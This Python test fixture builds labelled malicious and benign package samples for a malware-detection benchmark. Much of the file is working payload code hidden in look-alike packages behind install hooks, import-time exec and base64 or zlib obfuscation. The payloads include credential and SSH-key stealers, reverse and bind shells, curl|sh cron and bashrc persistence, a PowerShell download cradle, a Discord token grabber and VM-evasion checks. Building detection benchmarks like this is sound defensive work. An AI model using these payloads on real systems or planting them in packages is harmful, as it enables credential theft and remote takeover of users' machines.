"""Labelled samples for the detection benchmark: malware written as attackers write it.

Each sample is a small release (sdist, sometimes a wheel) written here as data by
``tests.fakes.dists`` — nothing in it runs on the host; it runs only in a guest.
The malicious ones use the techniques found in real malicious PyPI uploads (install
hooks through ``cmdclass``, import-time payloads, base64/zlib/marshal layers, ``.pth``
files, cron and shell rc persistence, credential and environment theft, DNS
exfiltration, droppers, reverse shells, an undeclared import at the top of
``setup.py``, a hanging bind shell, Windows-only droppers and token grabbers,
PowerShell ``-enc``, a detached payload that acts seconds after the import, a
``setup.py`` that leaves when it sees a VM); the benign ones look alike on the
surface (build steps that spawn compilers, environment reads, network use in tests,
base64 data, scripts run from a temp dir by tests, a plain ``setup.py``, Windows
path helpers, a cloud/VM probe that only reports, a test server left running).

Every address is a name under ``.example``/``.invalid`` or TEST-NET: even outside
the sandbox nothing would reach a real host.
"""

from __future__ import annotations

import base64
import marshal
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.fakes.dists import build_sdist, build_wheel, dedent

MALICIOUS = "malicious"
BENIGN = "benign"


@dataclass(frozen=True, slots=True)
class Sample:
    """One labelled release: ``build(dest)`` writes its files and returns them."""

    name: str
    label: str  # MALICIOUS | BENIGN
    technique: str
    build: Callable[[Path], list[Path]]


def _setup_py(name: str, body: str, *, cmdclass: bool = True, header: str = "") -> str:
    """A setuptools ``setup.py`` whose install/develop/egg_info commands run ``body``."""
    hooked = dedent(
        """
        class _Hook(install):
            def run(self):
                _payload()
                install.run(self)


        class _DevHook(develop):
            def run(self):
                _payload()
                develop.run(self)


        class _InfoHook(egg_info):
            def run(self):
                _payload()
                egg_info.run(self)
        """
    )
    payload = "def _payload():\n" + "".join(f"    {line}\n" for line in body.splitlines())
    call = (
        "cmdclass={'install': _Hook, 'develop': _DevHook, 'egg_info': _InfoHook},"
        if cmdclass
        else ""
    )
    return (
        header
        + "from setuptools import setup, find_packages\n"
        + "from setuptools.command.install import install\n"
        + "from setuptools.command.develop import develop\n"
        + "from setuptools.command.egg_info import egg_info\n\n"
        + payload
        + "\n\n"
        + (hooked if cmdclass else "_payload()\n")
        + f"\n\nsetup(name={name!r}, version='1.0', packages=find_packages(), {call})\n"
    )


def _pyproject(name: str) -> str:
    """A ``pyproject.toml`` with the setuptools backend and no dependencies."""
    return dedent(
        f"""
        [build-system]
        requires = ["setuptools>=61"]
        build-backend = "setuptools.build_meta"

        [project]
        name = "{name}"
        version = "1.0"
        dependencies = []
        """
    )


def _legacy_sdist(dest: Path, name: str, setup_py: str, init: str = "") -> list[Path]:
    """An sdist with only a ``setup.py`` (no pyproject): pip builds it with setuptools."""
    module = name.replace("-", "_")
    files = {
        "setup.py": setup_py,
        f"{module}/__init__.py": init or "__version__ = '1.0'\n",
        "tests/test_basic.py": f"import {module}\n\n\ndef test_version():\n"
        f"    assert {module}.__version__\n",
    }
    extra = [("Dynamic", "Requires-Dist")]
    return [build_sdist(dest, name, "1.0", files, pkg_info_extra=extra, metadata_version="2.2")]


def _import_payload(dest: Path, name: str, init: str, *, wheel: bool = True) -> list[Path]:
    """A release whose package runs ``init`` when imported (sdist + wheel)."""
    module = name.replace("-", "_")
    pyproject = _pyproject(name)
    test = f"import {module}\n\n\ndef test_version():\n    assert {module}.__version__\n"
    files = {
        f"{module}/__init__.py": init,
        "tests/test_basic.py": test,
        "pyproject.toml": pyproject,
    }
    out = [build_sdist(dest, name, "1.0", files)]
    if wheel:
        out.append(build_wheel(dest, name, "1.0", {f"{module}/__init__.py": init}))
    return out


# ------------------------------------------------------------------ malicious ----

_STEAL_FILES = dedent(
    """
    import os, json, urllib.request, socket, getpass
    loot = {"host": socket.gethostname(), "user": getpass.getuser()}
    for p in ("~/.aws/credentials", "~/.ssh/id_rsa", "~/.netrc", "~/.pypirc",
              "~/.config/gcloud/credentials.db", "~/.docker/config.json"):
        try:
            loot[p] = open(os.path.expanduser(p)).read()
        except Exception:
            pass
    try:
        req = urllib.request.Request("http://collector.pkg-stats.example/api/v1/u",
                                     data=json.dumps(loot).encode(),
                                     headers={"Content-Type": "application/json"})
        urllib.request.urlopen(req, timeout=5)
    except Exception:
        pass
    """
)


def install_hook_stealer(dest: Path) -> list[Path]:
    return _legacy_sdist(dest, "colorsys-utils", _setup_py("colorsys-utils", _STEAL_FILES))


_B64_PAYLOAD = dedent(
    """
    import socket, platform, os
    try:
        s = socket.create_connection(("198.51.100.23", 4444), timeout=5)
        s.send((platform.node() + ":" + os.getcwd()).encode())
        s.close()
    except Exception:
        pass
    """
)


def import_base64_exec(dest: Path) -> list[Path]:
    blob = base64.b64encode(_B64_PAYLOAD.encode()).decode()
    init = f"__version__ = '1.0'\nimport base64\nexec(base64.b64decode('{blob}'))\n"
    return _import_payload(dest, "fast-json-utils", init)


def zlib_marshal_layers(dest: Path) -> list[Path]:
    # The marshalled payload is the source text, not a code object: marshal's format for
    # code is the compiling Python's own, and the guest's may be another (3.13 crashed on a
    # 3.11 code object instead of stealing); a str reads back the same on every Python.
    blob = base64.b64encode(zlib.compress(marshal.dumps(_STEAL_FILES))).decode()
    init = (
        "__version__ = '1.0'\nimport marshal, zlib, base64\n"
        f"exec(marshal.loads(zlib.decompress(base64.b64decode('{blob}'))))\n"
    )
    return _import_payload(dest, "pyconfig-loader", init)


def chr_obfuscation(dest: Path) -> list[Path]:
    codes = ",".join(str(ord(c)) for c in _B64_PAYLOAD)
    init = f"__version__ = '1.0'\n_ = [{codes}]\nexec(''.join(map(chr, _)))\n"
    return _import_payload(dest, "text-normalizer", init)


_PTH_LINE = (
    "import os, subprocess; os.environ.get('PYTI_PTH_DONE') or subprocess.Popen("
    "['sh', '-c', 'curl -s http://cdn.updates-check.example/i.sh | sh'], "
    "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
)


def pth_persistence(dest: Path) -> list[Path]:
    name = "requests-toolbelt2"
    module = "requests_toolbelt2"
    files = {f"{module}/__init__.py": "__version__ = '1.0'\n", "zz_rt2_init.pth": _PTH_LINE}
    return [build_wheel(dest, name, "1.0", files)]


_PERSIST = dedent(
    """
    import os, subprocess
    line = "curl -s http://cdn.updates-check.example/u.sh | sh\\n"
    try:
        with open(os.path.expanduser("~/.bashrc"), "a") as f:
            f.write(line)
        with open(os.path.expanduser("~/.profile"), "a") as f:
            f.write(line)
    except Exception:
        pass
    try:
        subprocess.run(["sh", "-c", "(crontab -l 2>/dev/null; echo '*/5 * * * * "
                        "curl -s http://cdn.updates-check.example/c.sh | sh') | crontab -"],
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except Exception:
        pass
    """
)


def cron_bashrc_persistence(dest: Path) -> list[Path]:
    return _legacy_sdist(dest, "pyutil-helpers", _setup_py("pyutil-helpers", _PERSIST))


_ENV_THEFT = dedent(
    """
    import os, json, urllib.request
    __version__ = "1.0"
    _keys = {k: v for k, v in os.environ.items()
             if any(w in k.upper() for w in ("TOKEN", "SECRET", "KEY", "PASS", "AWS"))}
    try:
        urllib.request.urlopen(urllib.request.Request(
            "https://discord.com/api/webhooks/1234567890/AbCdEfGh",
            data=json.dumps({"content": json.dumps(_keys)}).encode(),
            headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"}),
            timeout=5)
    except Exception:
        pass
    """
)


def env_theft(dest: Path) -> list[Path]:
    return _import_payload(dest, "envconfig-plus", _ENV_THEFT)


_DNS_EXFIL = dedent(
    """
    import socket, getpass, binascii
    __version__ = "1.0"
    try:
        data = binascii.hexlify((getpass.getuser() + "@" + socket.gethostname()).encode())
        socket.gethostbyname(data.decode()[:60] + ".x.dnslog-collector.example")
    except Exception:
        pass
    """
)


def dns_exfiltration(dest: Path) -> list[Path]:
    return _import_payload(dest, "netaddr-tools", _DNS_EXFIL)


_DROPPER = dedent(
    """
    import os, stat, subprocess, urllib.request, tempfile
    path = os.path.join(tempfile.gettempdir(), ".sysupd")
    try:
        urllib.request.urlretrieve("http://198.51.100.23/payload.bin", path)
    except Exception:
        with open(path, "w") as f:
            f.write("#!/bin/sh\\nid > /dev/null\\n")
    try:
        os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
        subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                         start_new_session=True)
    except Exception:
        pass
    """
)


def dropper(dest: Path) -> list[Path]:
    return _legacy_sdist(dest, "libpng-helper", _setup_py("libpng-helper", _DROPPER))


_REVERSE_SHELL = dedent(
    """
    import socket, os, subprocess
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(5)
        s.connect(("198.51.100.23", 4444))
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        os.dup2(s.fileno(), 2)
        subprocess.call(["/bin/sh", "-i"], timeout=5)
    except Exception:
        pass
    """
)


def reverse_shell(dest: Path) -> list[Path]:
    return _legacy_sdist(dest, "httpx-helper", _setup_py("httpx-helper", _REVERSE_SHELL))


def undeclared_import(dest: Path) -> list[Path]:
    # Real stagers start with a bare import of a library they never declare.
    header = "import requests  # noqa\n"
    body = _REVERSE_SHELL
    return _legacy_sdist(
        dest, "aiohttp-utils", _setup_py("aiohttp-utils", body, cmdclass=False, header=header)
    )


_TYPOSQUAT = dedent(
    """
    import os, urllib.request, base64
    __version__ = "1.0"
    try:
        key = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()
        urllib.request.urlopen("http://45.33.32.156/k?d=" + base64.urlsafe_b64encode(key)
                               .decode()[:1500], timeout=5)
    except Exception:
        pass
    """
)


def typosquat(dest: Path) -> list[Path]:
    return _import_payload(dest, "reqeusts", _TYPOSQUAT)


_BIND_SHELL = dedent(
    """
    import os, socket, subprocess
    ssh = os.path.expanduser("~/.ssh")
    os.makedirs(ssh, exist_ok=True)
    with open(os.path.join(ssh, "authorized_keys"), "a") as f:
        f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJxQ0b9tqf6zZ attacker@box\\n")
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("0.0.0.0", 31337))
    srv.listen(1)
    while True:
        conn, _ = srv.accept()
        subprocess.Popen(["/bin/sh"], stdin=conn, stdout=conn, stderr=conn)
    """
)


def hanging_bind_shell(dest: Path) -> list[Path]:
    return _legacy_sdist(
        dest, "setuptools-extras", _setup_py("setuptools-extras", _BIND_SHELL, cmdclass=False)
    )


# --------------------------------------------------------------------- benign ----


def build_spawns_compiler(dest: Path) -> list[Path]:
    body = dedent(
        """
        import subprocess, shutil, sys
        cc = shutil.which("cc") or shutil.which("gcc")
        if cc:
            subprocess.run([cc, "--version"], check=False, capture_output=True)
        subprocess.run([sys.executable, "-c", "import sysconfig; sysconfig.get_paths()"],
                       check=False)
        """
    )
    return _legacy_sdist(dest, "fastmath-ext", _setup_py("fastmath-ext", body, cmdclass=False))


def env_reads(dest: Path) -> list[Path]:
    init = dedent(
        """
        import os
        __version__ = "1.0"
        DEBUG = os.environ.get("MYLIB_DEBUG", "") == "1"
        IN_CI = bool(os.environ.get("CI"))
        HOME = os.path.expanduser("~")
        CONFIG = os.path.join(os.environ.get("XDG_CONFIG_HOME", os.path.join(HOME, ".config")),
                              "mylib.toml")
        """
    )
    return _import_payload(dest, "mylib-config", init)


def network_in_tests(dest: Path) -> list[Path]:
    name, module = "weather-client", "weather_client"
    init = dedent(
        """
        import urllib.request
        __version__ = "1.0"


        def fetch(city):
            with urllib.request.urlopen(f"https://api.weather.example/{city}", timeout=5) as r:
                return r.read()
        """
    )
    test = dedent(
        f"""
        import socket
        import pytest
        import {module}


        def test_version():
            assert {module}.__version__


        def test_fetch_live():
            try:
                {module}.fetch("paris")
            except OSError:
                pytest.skip("no network")


        def test_socket_to_test_server():
            s = socket.socket()
            s.settimeout(1)
            try:
                s.connect(("192.0.2.10", 80))
            except OSError:
                pass
            finally:
                s.close()
        """
    )
    pyproject = _pyproject(name)
    files = {f"{module}/__init__.py": init, "tests/test_live.py": test, "pyproject.toml": pyproject}
    return [build_sdist(dest, name, "1.0", files),
            build_wheel(dest, name, "1.0", {f"{module}/__init__.py": init})]  # fmt: skip


def base64_data(dest: Path) -> list[Path]:
    icon = base64.b64encode(bytes(range(256)) * 8).decode()
    init = (
        "import base64\n__version__ = '1.0'\n"
        f"ICON = base64.b64decode('{icon}')\n"
        "def icon_size():\n    return len(ICON)\n"
    )
    return _import_payload(dest, "tiny-icons", init)


def plain_setup_py(dest: Path) -> list[Path]:
    setup = (
        "from setuptools import setup, find_packages\n\n"
        "setup(name='oldstyle-lib', version='1.0', packages=find_packages(),\n"
        "      description='A library packaged the old way')\n"
    )
    return _legacy_sdist(dest, "oldstyle-lib", setup)


def tests_run_temp_scripts(dest: Path) -> list[Path]:
    name, module = "cli-runner", "cli_runner"
    init = "__version__ = '1.0'\n"
    test = dedent(
        f"""
        import os, stat, subprocess, sys
        import {module}


        def test_script(tmp_path):
            script = tmp_path / "hello.sh"
            script.write_text("#!/bin/sh\\necho hello\\n")
            script.chmod(script.stat().st_mode | stat.S_IEXEC)
            assert subprocess.run([str(script)], capture_output=True).stdout == b"hello\\n"


        def test_python_child(tmp_path):
            code = tmp_path / "child.py"
            code.write_text("print(42)")
            out = subprocess.run([sys.executable, str(code)], capture_output=True, text=True)
            assert out.stdout.strip() == "42"
            assert {module}.__version__
        """
    )
    pyproject = _pyproject(name)
    files = {f"{module}/__init__.py": init, "tests/test_cli.py": test, "pyproject.toml": pyproject}
    return [build_sdist(dest, name, "1.0", files),
            build_wheel(dest, name, "1.0", {f"{module}/__init__.py": init})]  # fmt: skip


# ------------------------------------------------------------------ evasive ----
# Payloads that do nothing a Linux guest would see (Windows-only branches), act after
# the phase's main process has gone (detached and delayed), or check for a VM first.

_WIN_DROP = dedent(
    """
    import os, urllib.request
    if os.name == "nt":
        target = os.path.join(os.getenv("APPDATA", ""), "Microsoft", "WinUpdate.exe")
        urllib.request.urlretrieve("http://cdn.win-updates.example/u.exe", target)
        os.startfile(target)
    """
)


def windows_dropper(dest: Path) -> list[Path]:
    setup = _setup_py("winsys-tools", _WIN_DROP)
    return _legacy_sdist(dest, "winsys-tools", setup)


def windows_powershell(dest: Path) -> list[Path]:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://ps.win-updates.example/a')"
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    init = dedent(
        f"""
        __version__ = "1.0"
        import platform, subprocess
        if platform.system() == "Windows":
            subprocess.Popen("powershell -w hidden -nop -enc {blob}", shell=True,
                             creationflags=0x08000000)
        """
    )
    return _import_payload(dest, "colorama-win", init)


def discord_token_grabber(dest: Path) -> list[Path]:
    init = dedent(
        r"""
        __version__ = "1.0"
        import json, os, re, urllib.request

        def _grab():
            if os.name != "nt":
                return
            roaming, local = os.getenv("APPDATA", ""), os.getenv("LOCALAPPDATA", "")
            found = []
            for base in (roaming + "\\discord", roaming + "\\discordcanary",
                         local + "\\Google\\Chrome\\User Data\\Default"):
                path = base + "\\Local Storage\\leveldb"
                if not os.path.isdir(path):
                    continue
                for name in os.listdir(path):
                    if name.endswith((".log", ".ldb")):
                        text = open(os.path.join(path, name), errors="ignore").read()
                        found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", text)
            req = urllib.request.Request(
                "https://discord.com/api/webhooks/1234567890/AbCdEfGhIjKlMnOpQrStUv",
                data=json.dumps({"content": "\n".join(found)}).encode(),
                headers={"Content-Type": "application/json"})
            urllib.request.urlopen(req, timeout=5)

        try:
            _grab()
        except Exception:
            pass
        """
    )
    return _import_payload(dest, "discord-rpc-tools", init)


_DELAYED = dedent(
    """
    import os, time, urllib.request
    time.sleep(4)
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    urllib.request.urlopen("http://telemetry.pkg-metrics.example/k", key.encode(), timeout=5)
    """
)


def detached_delayed(dest: Path) -> list[Path]:
    blob = base64.b64encode(_DELAYED.encode()).decode()
    init = dedent(
        f"""
        __version__ = "1.0"
        import base64, os, subprocess, sys
        if os.fork() == 0:  # the grandchild outlives the import, detached
            subprocess.Popen([sys.executable, "-c", base64.b64decode("{blob}").decode()],
                             start_new_session=True, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
            os._exit(0)
        """
    )
    return _import_payload(dest, "fast-logging-utils", init)


_SANDBOX_CHECK = dedent(
    """
    import base64, os, sys
    try:
        vendor = open("/sys/class/dmi/id/sys_vendor").read().strip()
    except OSError:
        vendor = ""
    if vendor in ("QEMU", "innotek GmbH", "VMware, Inc.", "Xen"):
        sys.exit(0)
    if "hypervisor" in open("/proc/cpuinfo").read():
        sys.exit(0)
    exec(base64.b64decode(PAYLOAD))
    """
)


def sandbox_aware(dest: Path) -> list[Path]:
    blob = base64.b64encode(_STEAL_FILES.encode()).decode()
    body = f"PAYLOAD = {blob!r}\n" + _SANDBOX_CHECK
    return _legacy_sdist(dest, "pyvm-helpers", _setup_py("pyvm-helpers", body))


def windows_paths(dest: Path) -> list[Path]:
    init = dedent(
        r"""
        __version__ = "1.0"
        import os, sys

        def config_dir(app="winpaths"):
            if os.name == "nt":
                return os.path.join(os.getenv("LOCALAPPDATA", ""), app, "User Data")
            return os.path.join(os.path.expanduser("~/.config"), app)

        def open_docs(path):
            if os.name == "nt":
                os.startfile(path)

        CONFIG = os.path.join(config_dir(), "settings.ini")
        SETTINGS = open(CONFIG).read() if os.path.exists(CONFIG) else ""
        if sys.platform == "win32":
            import winreg
            try:
                key = winreg.OpenKey(winreg.HKEY_CURRENT_USER,
                                     r"Software\Microsoft\Windows\CurrentVersion\Run")
                winreg.CloseKey(key)
            except OSError:
                pass
        """
    )
    return _import_payload(dest, "winpaths-lite", init)


def cloud_detect(dest: Path) -> list[Path]:
    init = dedent(
        """
        __version__ = "1.0"

        def _read(path):
            try:
                with open(path) as f:
                    return f.read()
            except OSError:
                return ""

        ON_GCE = "Google" in _read("/sys/class/dmi/id/product_name")
        VIRTUAL = "hypervisor" in _read("/proc/cpuinfo")
        if VIRTUAL:
            PLATFORM = "vm"
        else:
            PLATFORM = "metal"
        """
    )
    return _import_payload(dest, "cloud-whereami", init)


def tests_leave_server(dest: Path) -> list[Path]:
    name, module = "tiny-http-client", "tiny_http_client"
    init = "__version__ = '1.0'\n"
    test = dedent(
        f"""
        import subprocess, sys
        import {module}

        SERVER = subprocess.Popen([sys.executable, "-m", "http.server", "0",
                                   "--bind", "127.0.0.1"])  # never stopped


        def test_version():
            assert {module}.__version__
        """
    )
    files = {f"{module}/__init__.py": init, "tests/test_client.py": test,
             "pyproject.toml": _pyproject(name)}  # fmt: skip
    return [build_sdist(dest, name, "1.0", files),
            build_wheel(dest, name, "1.0", {f"{module}/__init__.py": init})]  # fmt: skip


SAMPLES: tuple[Sample, ...] = (
    Sample("install-hook-stealer", MALICIOUS, "cmdclass install hook reads credentials, POSTs",
           install_hook_stealer),
    Sample("import-base64-exec", MALICIOUS, "import-time exec(base64) phoning home",
           import_base64_exec),
    Sample("zlib-marshal-layers", MALICIOUS, "import-time marshal/zlib/base64 layers stealing",
           zlib_marshal_layers),
    Sample("chr-obfuscation", MALICIOUS, "exec of chr()-joined code", chr_obfuscation),
    Sample("pth-persistence", MALICIOUS, ".pth file that spawns curl|sh at every start",
           pth_persistence),
    Sample("cron-bashrc", MALICIOUS, "install hook writes ~/.bashrc and crontab",
           cron_bashrc_persistence),
    Sample("env-theft", MALICIOUS, "import-time environment secrets to a Discord webhook",
           env_theft),
    Sample("dns-exfiltration", MALICIOUS, "user@host hex-encoded in a DNS query", dns_exfiltration),
    Sample("dropper", MALICIOUS, "install hook downloads, chmods and runs a binary", dropper),
    Sample("reverse-shell", MALICIOUS, "install hook connects to :4444 and dup2s a shell",
           reverse_shell),
    Sample("undeclared-import", MALICIOUS, "setup.py imports requests undeclared, then a shell",
           undeclared_import),
    Sample("typosquat", MALICIOUS, "'reqeusts' sends ~/.ssh/id_rsa at import", typosquat),
    Sample("hanging-bind-shell", MALICIOUS, "setup.py plants an SSH key, then listens forever",
           hanging_bind_shell),
    Sample("windows-dropper", MALICIOUS,
           "install hook on Windows downloads an .exe to APPDATA and startfiles it",
           windows_dropper),
    Sample("windows-powershell", MALICIOUS,
           "import on Windows runs powershell -enc with a download cradle", windows_powershell),
    Sample("discord-token-grabber", MALICIOUS,
           "import on Windows greps Discord/Chrome leveldb for tokens, posts to a webhook",
           discord_token_grabber),
    Sample("detached-delayed", MALICIOUS,
           "import double-forks a detached child that sleeps 4 s, then sends ~/.ssh/id_rsa",
           detached_delayed),
    Sample("sandbox-aware", MALICIOUS,
           "setup.py exits on a QEMU/VM vendor or hypervisor flag, else exec(base64) stealer",
           sandbox_aware),
    Sample("build-spawns-compiler", BENIGN, "setup.py runs cc --version and python -c",
           build_spawns_compiler),
    Sample("env-reads", BENIGN, "import reads CI/XDG/HOME settings", env_reads),
    Sample("network-in-tests", BENIGN, "tests try the network and skip offline",
           network_in_tests),
    Sample("base64-data", BENIGN, "a base64 icon decoded at import", base64_data),
    Sample("plain-setup-py", BENIGN, "a legacy setup.py with nothing else", plain_setup_py),
    Sample("tests-run-temp-scripts", BENIGN, "tests write and run scripts in tmp_path",
           tests_run_temp_scripts),
    Sample("windows-paths", BENIGN,
           "import computes LOCALAPPDATA paths, reads a winreg key, startfile in a function",
           windows_paths),
    Sample("cloud-detect", BENIGN,
           "import reads the DMI product name and the hypervisor flag, reports them",
           cloud_detect),
    Sample("tests-leave-server", BENIGN, "tests start an http.server and never stop it",
           tests_leave_server),
)  # fmt: skip
